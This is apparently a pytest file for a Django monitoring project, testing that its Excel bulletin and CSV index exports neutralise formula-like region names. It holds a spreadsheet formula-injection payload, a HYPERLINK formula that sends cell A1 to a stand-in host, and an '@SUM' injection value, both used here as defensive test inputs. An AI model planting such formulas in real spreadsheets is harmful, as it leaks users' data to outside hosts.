"""The bulletin's Excel and ``tiaodu index --format csv`` write names through the formula-safe
writer (core.exports): a region or indicator named like a formula comes back as inert text
(issue 13, item 1)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from tiaodu.monitoring.bulletin import build_bulletin
from tiaodu.monitoring.bulletin_render import render
from tiaodu.monitoring.tests.seed import PERIOD, TONGNAN
from tiaodu.monitoring.tests.test_index_commands import define
from tiaodu.regions.models import Region

pytestmark = pytest.mark.usefixtures("seeded")

HOSTILE = '=HYPERLINK("http://x?"&A1,"x")'


def test_bulletin_xlsx_has_no_formula_cells() -> None:
    Region.objects.filter(code=TONGNAN).update(name=HOSTILE)
    data = render(build_bulletin(TONGNAN, PERIOD), "xlsx")
    wb = load_workbook(io.BytesIO(data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = [c.value for c in cells]
    assert "'" + HOSTILE in values and HOSTILE not in values


def test_index_csv_neutralises_names(tmp_path: Path) -> None:
    define(tmp_path)
    Region.objects.filter(code=TONGNAN).update(name="@SUM(1+1)")
    out = io.StringIO()
    call_command("index", "compute", "--index", "gyzs", "--period", PERIOD, "--format", "csv", stdout=out)
    rows = {r["region_code"]: r for r in csv.DictReader(io.StringIO(out.getvalue()))}
    assert rows[TONGNAN]["region_name"] == "'@SUM(1+1)"
    assert all(r["value"] == "" or float(r["value"]) == float(r["value"]) for r in rows.values())
